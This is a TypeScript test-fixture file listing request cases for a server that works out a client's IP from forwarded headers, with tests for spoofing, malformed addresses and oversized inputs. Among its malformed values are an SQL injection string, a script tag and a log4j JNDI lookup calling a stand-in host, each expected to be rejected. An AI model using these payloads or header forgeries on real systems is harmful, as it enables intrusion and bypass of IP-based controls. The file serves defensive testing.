/** One request: the header lines a peer sends, byte by byte, and as whom it is seen. */
export type Case = [lines: string[], address: string, why: string]

/** Requests to one server with these settings. */
export interface Situation {
  name: string
  trusted: string[]
  header: string
  /** The end of the socket that asks; 127.0.0.1 unless given. */
  from?: string
  cases: Case[]
}

const PEER = '127.0.0.1'
/** A visitor, somebody else, and whom the visitor would like to be taken for. */
const VISITOR = '198.51.100.7'
const OTHER = '203.0.113.9'
const FORGED = '192.0.2.66'
const VISITOR6 = '2001:db8::7'

/** Every header that some program somewhere believes. */
export const EVERY_HEADER = [
  'X-Client-IP',
  'X-Forwarded-For',
  'CF-Connecting-IP',
  'Fastly-Client-IP',
  'Fly-Client-IP',
  'True-Client-IP',
  'X-Real-IP',
  'X-Cluster-Client-IP',
  'X-Forwarded',
  'Forwarded-For',
  'X-Appengine-User-IP',
  'X-Azure-ClientIP',
  'X-Envoy-External-Address',
  'X-Original-Forwarded-For',
  'X-ProxyUser-Ip',
  'Client-IP',
  'WL-Proxy-Client-IP',
  'Proxy-Client-IP',
  'HTTP_X_FORWARDED_FOR',
  'X_FORWARDED_FOR',
  'X-Forwarded-Host',
  'Via',
]

const everyForged = [
  ...EVERY_HEADER.map((name) => `${name}: ${FORGED}`),
  `Forwarded: for=${FORGED}`,
  `CloudFront-Viewer-Address: ${FORGED}:443`,
]

const forged = (believed: string) => {
  return everyForged.filter((line) => !line.toLowerCase().startsWith(`${believed}:`))
}

const nobodyTrusted: Case[] = [
  [[], PEER, 'no header at all'],
  [everyForged, PEER, 'all of them at once'],
  ...everyForged.map((line): Case => [[line], PEER, line]),
  [['X-Forwarded-For: 127.0.0.1'], PEER, 'its own address, which changes nothing'],
  [['X-Forwarded-For: garbage'], PEER, 'garbage'],
]

const list = (value: string, address: string, why: string): Case => {
  return [[`X-Forwarded-For: ${value}`], address, why]
}

const xForwardedFor: Case[] = [
  [[], PEER, 'the proxy asks for itself'],
  [forged('x-forwarded-for'), PEER, 'every other header, and not the one'],
  [[...everyForged, `X-Forwarded-For: ${VISITOR}`], VISITOR, 'every other header beside the one'],
  list(VISITOR, VISITOR, 'one address'),
  list(VISITOR6, VISITOR6, 'IPv6'),
  list(`[${VISITOR6}]`, VISITOR6, 'IPv6 in brackets'),
  list(`[${VISITOR6}]:4711`, VISITOR6, 'IPv6 in brackets with a port'),
  list('2001:0DB8:0:0::7', VISITOR6, 'IPv6 in another spelling'),
  list('2001:db8::c633:6407', '2001:db8::c633:6407', 'an IPv6 address that ends like an IPv4 one'),
  list(`::ffff:${VISITOR}`, VISITOR, 'IPv4-mapped'),
  list('::FFFF:c633:6407', VISITOR, 'IPv4-mapped in hexadecimal'),
  list(`[::ffff:${VISITOR}]:80`, VISITOR, 'IPv4-mapped in brackets'),
  list(`${VISITOR}:4711`, VISITOR, 'a port, as Azure writes it'),
  list(`${VISITOR}:0`, VISITOR, 'port 0'),
  list(`${VISITOR}:65535`, VISITOR, 'the last port'),
  list(`${VISITOR}:65536`, PEER, 'no port: too large'),
  list(`${VISITOR}:99999`, PEER, 'no port: too large'),
  list(`${VISITOR}:123456`, PEER, 'no port: six digits'),
  list(`${VISITOR}:`, PEER, 'no port behind the colon'),
  list(`${VISITOR}:http`, PEER, 'a name for a port'),
  list(`${VISITOR}:80:80`, PEER, 'two ports'),
  list(`${VISITOR}:-1`, PEER, 'a negative port'),
  list(`${VISITOR}: 80`, PEER, 'a blank in front of the port'),
  list(`[${VISITOR6}]4711`, PEER, 'no colon in front of the port'),
  list(`[${VISITOR6}`, PEER, 'half a bracket'),
  list(`${VISITOR6}]`, PEER, 'the other half'),
  list(`[[${VISITOR6}]]`, PEER, 'two brackets'),
  list(`[${VISITOR}]`, PEER, 'IPv4 in brackets'),
  list('[]', PEER, 'nothing in brackets'),
  list('[]:80', PEER, 'nothing in brackets, and a port'),
  list(`${VISITOR6}%eth0`, PEER, 'a zone'),
  list('[fe80::1%eth0]', PEER, 'a zone in brackets'),
  list('fe80::1%25eth0', PEER, 'an escaped zone'),
  list(`"${VISITOR}"`, PEER, 'quotes'),
  list(`"[${VISITOR6}]"`, PEER, 'quotes around brackets'),
  list(`for=${VISITOR}`, PEER, 'the other syntax'),
  list('', PEER, 'empty'),
  list(' ', PEER, 'blank'),
  list(',', PEER, 'two empty elements'),
  list(',,,,', PEER, 'many empty elements'),
  list(`${VISITOR},`, PEER, 'an empty last element vouches for nothing'),
  list(`${VISITOR}, `, PEER, 'an empty last element and a blank'),
  list(`,${VISITOR}`, VISITOR, 'an empty first element'),
  list(`, ,${VISITOR}`, VISITOR, 'empty first elements'),
  list('unknown', PEER, 'unknown'),
  list('_hidden', PEER, 'an obfuscated name'),
  list('-', PEER, 'a dash'),
  list('null', PEER, 'null'),
  list('undefined', PEER, 'undefined'),
  list('localhost', PEER, 'a host name'),
  list('1', PEER, 'one number'),
  list('127.1', PEER, 'a short form'),
  list('2130706433', PEER, 'the address as a number'),
  list('0x7f.0.0.1', PEER, 'hexadecimal'),
  list('0x7f000001', PEER, 'hexadecimal in one piece'),
  list('010.0.0.1', PEER, 'octal'),
  list('198.51.100.007', PEER, 'leading zeros'),
  list('256.1.1.1', PEER, 'a number above 255'),
  list('1.2.3', PEER, 'three numbers'),
  list('1.2.3.4.5', PEER, 'five numbers'),
  list(`${VISITOR}/32`, PEER, 'a network'),
  list(`${VISITOR}/24`, PEER, 'a wider network'),
  list(`${VISITOR}-${OTHER}`, PEER, 'a range'),
  list(`${VISITOR} ${OTHER}`, PEER, 'two addresses without a comma'),
  list(`${VISITOR};${OTHER}`, PEER, 'two addresses with a semicolon'),
  list(`http://${VISITOR}`, PEER, 'a URL'),
  list(`user@${VISITOR}`, PEER, 'a user'),
  list("' or 1=1 --", PEER, 'SQL'),
  list('<script>alert(1)</script>', PEER, 'HTML'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
  list('${jndi:ldap://192.0.2.66/a}', PEER, 'a lookup of log4j'),
  list('\xd9\xa1.2.3.4', PEER, 'a digit of another script'),
  list(`${VISITOR}\xa0`, PEER, 'a no-break space, which is none of HTTP’s blanks'),
  list(`\xa0${VISITOR}`, PEER, 'a no-break space in front'),
  list(`\xc2\xa0${VISITOR}`, PEER, 'a no-break space in UTF-8'),
  list(`\xef\xbb\xbf${VISITOR}`, PEER, 'a byte order mark'),
  list(`${VISITOR}\x85`, PEER, 'a next line character'),
  list(`\t ${VISITOR}\t `, VISITOR, 'tabs and blanks around'),
  list('1'.repeat(8_000), PEER, 'eight kilobytes of digits'),
  list(' '.repeat(8_000) + VISITOR, VISITOR, 'eight kilobytes of blanks'),
  list('0.0.0.0', '0.0.0.0', 'an address, however odd'),
  list('255.255.255.255', '255.255.255.255', 'broadcast'),
  list('::', '::', 'the unspecified address'),
  list('::1', '::1', 'IPv6 loopback is not in the settings'),
  list('10.1.2.3', '10.1.2.3', 'a private address'),
  list('64:ff9b::192.0.2.33', '64:ff9b::c000:221', 'IPv4 translated to IPv6 is IPv6'),
  list('::192.0.2.33', '::c000:221', 'the deprecated IPv4-compatible form is IPv6'),
  list(`${FORGED}, ${VISITOR}`, VISITOR, 'what the visitor has sent stands on the left'),
  list(`${FORGED},${VISITOR}`, VISITOR, 'without blanks'),
  list(`${FORGED}\t,\t${VISITOR}`, VISITOR, 'with tabs'),
  list(`garbage, ${VISITOR}`, VISITOR, 'garbage on the left'),
  list(`"${FORGED}, ${VISITOR}`, VISITOR, 'an open quote on the left'),
  list(`127.0.0.1, ${VISITOR}`, VISITOR, 'the proxy’s own address on the left'),
  list(`${Array(600).fill(FORGED).join(', ')}, ${VISITOR}`, VISITOR, '600 forged elements'),
  list(`${','.repeat(12_000)}${VISITOR}`, VISITOR, '12,000 empty elements'),
  list(`${VISITOR}, ${VISITOR}`, VISITOR, 'twice the same'),
  list(`${VISITOR}, unknown`, PEER, 'unknown stops the walk'),
  list(`${VISITOR}, 127.0.0.1`, VISITOR, 'the proxy has asked itself'),
  list(`${VISITOR}, ${PEER}, ${PEER}, ${PEER}`, VISITOR, 'several times'),
  list(PEER, PEER, 'the proxy alone'),
  list(`${VISITOR}, ::ffff:127.0.0.1`, VISITOR, 'the proxy as IPv4-mapped'),
  [[`x-forwarded-for:${VISITOR}`], VISITOR, 'the name in lower case, no blank'],
  [[`X-FORWARDED-FOR: ${VISITOR}`], VISITOR, 'the name in upper case'],
  [[`X-Forwarded-For: ${FORGED}`, `X-Forwarded-For: ${VISITOR}`], VISITOR, 'two lines: the later'],
  [
    [`X-Forwarded-For: ${VISITOR}`, 'Accept: */*', `x-forwarded-for: ${PEER}`],
    VISITOR,
    'two lines with another in between',
  ],
  [[`X-Forwarded-For: ${VISITOR}`, 'X-Forwarded-For:'], PEER, 'an empty last line'],
  [['X-Forwarded-For:', `X-Forwarded-For: ${VISITOR}`], VISITOR, 'an empty first line'],
  [[`X-Forwarded-For: ${VISITOR}`, 'X-Forwarded-For: unknown'], PEER, 'unknown in the last line'],
  [[`X-Forwarded-For: ${VISITOR},`, `X-Forwarded-For: ${OTHER}`], OTHER, 'a comma at a line’s end'],
  [
    Array.from({ length: 200 }, () => `X-Forwarded-For: ${FORGED}`).concat(
      `X-Forwarded-For: ${VISITOR}`,
    ),
    VISITOR,
    '201 lines',
  ],
  [
    [...Array.from({ length: 2_500 }, () => 'a:'), `X-Forwarded-For: ${VISITOR}`],
    VISITOR,
    'behind 2,500 other lines, which node would drop',
  ],
  [[`X_Forwarded_For: ${FORGED}`], PEER, 'underscores make another name'],
  [[`X-Forwarded-For2: ${FORGED}`], PEER, 'a longer name'],
]

const chains: Case[] = [
  list(`${VISITOR}, 10.0.0.2`, VISITOR, 'two proxies'),
  list(`${VISITOR}, 10.0.0.3, 10.0.0.2`, VISITOR, 'three proxies'),
  list(`${FORGED}, ${VISITOR}, 10.0.0.3, 10.0.0.2`, VISITOR, 'three proxies and a forgery'),
  list(`${VISITOR}, 2001:db8:aaaa::1`, VISITOR, 'an IPv6 proxy'),
  list(`${VISITOR6}, [2001:db8:aaaa::1]:443, 10.0.0.2:80`, VISITOR6, 'proxies with ports'),
  list(`${VISITOR}, ::ffff:10.0.0.2`, VISITOR, 'an IPv4-mapped proxy'),
  list(`${VISITOR}, 172.16.5.5`, '172.16.5.5', 'a hop that is not trusted'),
  list(`${VISITOR}, ${OTHER}, 10.0.0.2`, OTHER, 'the right-most that is not trusted'),
  list(`${VISITOR}, unknown, 10.0.0.2`, '10.0.0.2', 'unknown in the middle'),
  list(`${VISITOR}, _x, 10.0.0.3, 10.0.0.2`, '10.0.0.3', 'the last verified hop'),
  list(`${VISITOR}, , 10.0.0.2`, '10.0.0.2', 'an empty element in the middle'),
  list(`${VISITOR},, 10.0.0.2`, '10.0.0.2', 'an empty element without a blank'),
  list(`${VISITOR}:99999, 10.0.0.2`, '10.0.0.2', 'what has no port in the middle'),
  list('10.0.0.3, 10.0.0.2', '10.0.0.3', 'trusted proxies alone: the first of them'),
  list('10.0.0.2', '10.0.0.2', 'a trusted proxy asks for itself'),
  list('11.0.0.1, 10.255.255.255', '11.0.0.1', 'the last address of the network'),
  list('10.0.0.1, 11.0.0.0', '11.0.0.0', 'the first address behind the network'),
  list('2001:db8:aaab::1', '2001:db8:aaab::1', 'the network next to the trusted one'),
  list(`${VISITOR}, 192.168.1.1`, VISITOR, 'a proxy that is trusted as IPv4-mapped'),
  list(Array(1_200).fill('10.0.0.2').join(), '10.0.0.2', '1,200 trusted elements'),
  list(
    `${VISITOR},${Array(1_200).fill('10.0.0.2').join()}`,
    VISITOR,
    '1,200 proxies and a visitor',
  ),
  [
    [`X-Forwarded-For: ${VISITOR}`, 'X-Forwarded-For: 10.0.0.3', 'X-Forwarded-For: 10.0.0.2'],
    VISITOR,
    'each proxy a line of its own',
  ],
]

const element = (value: string, address: string, why: string): Case => {
  return [[`Forwarded: ${value}`], address, why]
}

const forwarded: Case[] = [
  [forged('forwarded'), PEER, 'every other header, and not the one'],
  element(`for=${VISITOR}`, VISITOR, 'a token'),
  element(`for="${VISITOR}"`, VISITOR, 'a quoted string'),
  element(`FOR=${VISITOR}`, VISITOR, 'names are case-insensitive'),
  element(`fOr="${VISITOR}:4711"`, VISITOR, 'a port'),
  element(`for=${VISITOR}:4711`, VISITOR, 'a port without the quotes that it needs'),
  element(`for="${VISITOR}:_p"`, VISITOR, 'an obfuscated port'),
  element(`for="${VISITOR}:99999"`, PEER, 'no port'),
  element(`for="[${VISITOR6}]"`, VISITOR6, 'IPv6'),
  element(`for="[${VISITOR6}]:4711"`, VISITOR6, 'IPv6 and a port'),
  element(`for="[${VISITOR6}]:_a.b-c"`, VISITOR6, 'IPv6 and an obfuscated port'),
  element(`for="${VISITOR6}"`, VISITOR6, 'IPv6 without the brackets that it needs'),
  element(`for="[::ffff:${VISITOR}]"`, VISITOR, 'IPv4-mapped'),
  element('for="[2001:DB8:0::7]"', VISITOR6, 'another spelling'),
  element('for="[fe80::1%25eth0]"', PEER, 'a zone'),
  element(`for="[${VISITOR}]"`, PEER, 'IPv4 in brackets'),
  element('for=unknown', PEER, 'unknown'),
  element('for="unknown"', PEER, 'unknown in quotes'),
  element('for=_hidden', PEER, 'an obfuscated name'),
  element('for="_SEVKISEK"', PEER, 'an obfuscated name in quotes'),
  element('for=', PEER, 'nothing'),
  element('for=""', PEER, 'nothing in quotes'),
  element('for', PEER, 'no value'),
  element('', PEER, 'empty'),
  element(VISITOR, PEER, 'the other syntax'),
  element(`by=${VISITOR}`, PEER, 'who received it, not who sent it'),
  element(`by=${OTHER};for=${VISITOR};host=example.com;proto=https`, VISITOR, 'all parameters'),
  element(`proto=https;by="[2001:db8::1]";for=${VISITOR}`, VISITOR, 'in another order'),
  element(`for=${VISITOR};secret=egah2CGj55fSJFs`, VISITOR, 'an unknown parameter'),
  element(`for=${VISITOR}; proto=https`, VISITOR, 'a blank behind the semicolon'),
  element(`for=${VISITOR} ;proto=https`, VISITOR, 'a blank in front of it'),
  element(`;for=${VISITOR};`, VISITOR, 'empty pairs'),
  element(`for=${VISITOR};host="a;b,c"`, VISITOR, 'separators in quotes'),
  element(`host="for=${FORGED}";for=${VISITOR}`, VISITOR, 'a for inside quotes'),
  element(`for=${VISITOR};host="a\\"b"`, VISITOR, 'an escaped quote'),
  element(`for=${VISITOR};host="a\\\\"`, VISITOR, 'an escaped backslash at the end'),
  element(
    `host="\\", for=${FORGED}, \\"";for=${VISITOR}`,
    VISITOR,
    'escaped quotes around a forgery',
  ),
  element('for="198.51.\\100.7"', VISITOR, 'an escaped digit'),
  element(`for = ${VISITOR}`, PEER, 'blanks around the equals sign'),
  element(`for="${VISITOR}`, PEER, 'an open quote'),
  element(`for=${VISITOR}"`, PEER, 'a quote at the end'),
  element(`for='${VISITOR}'`, PEER, 'the wrong quotes'),
  element(`for=${VISITOR};for=${FORGED}`, PEER, 'for twice in one element'),
  element(`for=${VISITOR};for=${VISITOR}`, PEER, 'for twice the same'),
  element(`xfor=${VISITOR}`, PEER, 'another name'),
  element(`for\xa0=${VISITOR}`, PEER, 'a no-break space'),
  element(`\xa0for=${VISITOR}`, PEER, 'a no-break space in front'),
  element(`for=${FORGED}, for=${VISITOR}`, VISITOR, 'what the visitor has sent stands on the left'),
  element(`for=${FORGED},for=${VISITOR}`, VISITOR, 'without a blank'),
  element(`for="${FORGED}, for=${VISITOR}`, VISITOR, 'an open quote of the visitor'),
  element(`for="\\", for=${VISITOR}`, VISITOR, 'an escaped quote of the visitor'),
  element(`for=\\, for=${VISITOR}`, VISITOR, 'a backslash of the visitor'),
  element(`garbage, for=${VISITOR}`, VISITOR, 'garbage of the visitor'),
  element(`for=${VISITOR}, for=127.0.0.1`, VISITOR, 'two proxies'),
  element(`for=${VISITOR}, for="127.0.0.1:80";proto=http`, VISITOR, 'two proxies, one with a port'),
  element(`for=${VISITOR}, for=unknown`, PEER, 'unknown stops the walk'),
  element(`for=${VISITOR}, proto=https`, PEER, 'an element without for'),
  element(`for=${VISITOR},`, PEER, 'an empty last element'),
  element(`for=127.0.0.1, for=${PEER}`, PEER, 'trusted proxies alone'),
  element(`${'for=_x,'.repeat(1_500)}for=${VISITOR}`, VISITOR, 'ten kilobytes of elements'),
  element(`for=${VISITOR};host="${'\\"'.repeat(5_000)}"`, VISITOR, 'ten kilobytes of escapes'),
  element('"'.repeat(12_000), PEER, 'twelve kilobytes of quotes'),
  [[`Forwarded: for=${FORGED}`, `Forwarded: for=${VISITOR}`], VISITOR, 'two lines'],
  [[`Forwarded: for="${FORGED}`, `Forwarded: for=${VISITOR}`], VISITOR, 'an open quote, two lines'],
  [[`Forwarded: for=${VISITOR}`, 'Forwarded: for=127.0.0.1;proto=http'], VISITOR, 'one per proxy'],
]

function single(name: string): Case[] {
  const line = (value: string, address: string, why: string): Case => {
    return [[`${name}: ${value}`], address, why]
  }
  return [
    [[], PEER, 'no header'],
    [forged(name.toLowerCase()), PEER, 'every other header, and not the one'],
    line(VISITOR, VISITOR, 'an address'),
    [[`${name.toUpperCase()}: ${VISITOR}`], VISITOR, 'the name in upper case'],
    line(VISITOR6, VISITOR6, 'IPv6'),
    line('2001:DB8:0:0::7', VISITOR6, 'IPv6 in another spelling'),
    line(`::ffff:${VISITOR}`, VISITOR, 'IPv4-mapped'),
    line(`${VISITOR}:46532`, VISITOR, 'a port, as CloudFront writes it'),
    line(`\t${VISITOR} `, VISITOR, 'blanks around'),
    line(`${VISITOR}, ${OTHER}`, PEER, 'a list'),
    line(`${VISITOR},${VISITOR}`, PEER, 'a list of the same'),
    line(`${VISITOR},`, PEER, 'a comma'),
    line(`for=${VISITOR}`, PEER, 'the syntax of Forwarded'),
    line(`"${VISITOR}"`, PEER, 'quotes'),
    line('unknown', PEER, 'unknown'),
    line('', PEER, 'empty'),
    line(PEER, PEER, 'the proxy itself'),
    [[`${name}: ${FORGED}`, `${name}: ${VISITOR}`], PEER, 'two lines'],
    [[`${name}: ${VISITOR}`, `${name}: ${VISITOR}`], PEER, 'two equal lines'],
    [[`${name}:`, `${name}: ${VISITOR}`], PEER, 'an empty line and another'],
    [[`${name}: ${VISITOR}`, `X-Forwarded-For: ${FORGED}`], VISITOR, 'beside x-forwarded-for'],
  ]
}

export const SITUATIONS: Situation[] = [
  { name: 'nobody is trusted', trusted: [], header: 'x-forwarded-for', cases: nobodyTrusted },
  {
    name: 'somebody else is trusted',
    trusted: ['10.0.0.0/8', '127.0.0.9', '::1'],
    header: 'x-forwarded-for',
    cases: nobodyTrusted,
  },
  {
    name: 'x-forwarded-for of 127.0.0.1',
    trusted: ['127.0.0.1'],
    header: 'x-forwarded-for',
    cases: xForwardedFor,
  },
  {
    name: 'x-forwarded-for through several networks of proxies',
    trusted: ['127.0.0.0/8', '10.0.0.0/8', '2001:db8:aaaa::/48', '::ffff:192.168.0.0/112'],
    header: 'x-forwarded-for',
    cases: chains,
  },
  { name: 'forwarded', trusted: ['127.0.0.1'], header: 'forwarded', cases: forwarded },
  ...['CF-Connecting-IP', 'X-Real-IP', 'True-Client-IP', 'Fly-Client-IP'].map((name) => ({
    name: name.toLowerCase(),
    trusted: ['127.0.0.1'],
    header: name.toLowerCase(),
    cases: single(name),
  })),
  {
    name: 'a peer next to the trusted one',
    trusted: ['127.0.0.1'],
    header: 'x-forwarded-for',
    from: '127.0.0.2',
    cases: [[[], '127.0.0.2', 'no header'], list(VISITOR, '127.0.0.2', 'a header')],
  },
  {
    name: 'IPv6',
    trusted: ['::1'],
    header: 'x-forwarded-for',
    from: '::1',
    cases: [
      [[], '::1', 'no header'],
      list(VISITOR, VISITOR, 'an IPv4 visitor'),
      list(`${VISITOR6}, ::1`, VISITOR6, 'an IPv6 visitor'),
      list(`${VISITOR6}, 0:0:0:0:0:0:0:1`, VISITOR6, 'the proxy in another spelling'),
    ],
  },
  {
    name: 'an IPv4 peer that is trusted as IPv4-mapped',
    trusted: ['::ffff:127.0.0.0/104'],
    header: 'x-forwarded-for',
    cases: [
      list(VISITOR, VISITOR, 'a visitor'),
      list(`${VISITOR}, 127.9.9.9`, VISITOR, 'through another of the network'),
    ],
  },
]
